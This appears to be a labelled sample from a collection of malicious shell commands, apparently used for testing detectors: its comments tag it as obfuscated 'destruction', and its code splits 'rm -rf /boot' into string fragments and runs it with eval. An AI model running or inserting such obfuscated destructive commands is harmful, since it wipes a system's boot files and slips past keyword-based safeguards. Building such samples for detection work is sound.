# description: Assembles rm -rf /boot from string fragments and evals it.
# family: destruction
# obfuscated: yes
a="r"
b="m -rf /b"
eval "$a$b""oot"
